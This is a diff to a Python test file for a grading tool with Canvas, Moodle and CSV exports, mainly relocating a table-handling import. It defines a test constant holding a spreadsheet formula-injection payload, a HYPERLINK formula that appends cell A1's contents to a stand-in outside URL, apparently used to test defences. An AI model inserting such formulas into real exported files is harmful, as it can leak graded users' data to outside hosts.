@@ -13,10 +13,10 @@ import pytest
 from grading.export.canvas import export_canvas
 from grading.export.moodle import export_moodle
 from grading.export.plain import export_csv
-from grading.export.tables import Sheet, read_sheet, write_sheet
 from grading.points import CriterionGrade, Grade
 from grading.report.grades import GradedClass, save_graded, write_grades_csv
 from grading.rubric.rubric import parse_rubric
+from grading.tables import Sheet, read_sheet, write_sheet
 
 FORMULA = '=HYPERLINK("http://x/"&A1)'
 BEFORE = [
